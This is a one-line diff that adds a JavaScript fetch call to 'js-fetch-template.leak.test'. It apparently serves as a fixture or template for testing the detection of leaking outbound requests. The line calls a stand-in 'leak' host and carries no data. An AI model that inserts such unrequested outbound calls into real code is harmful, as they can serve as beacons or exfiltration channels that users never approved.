@@ -1,0 +1,1 @@
+fetch(`https://js-fetch-template.leak.test/`)
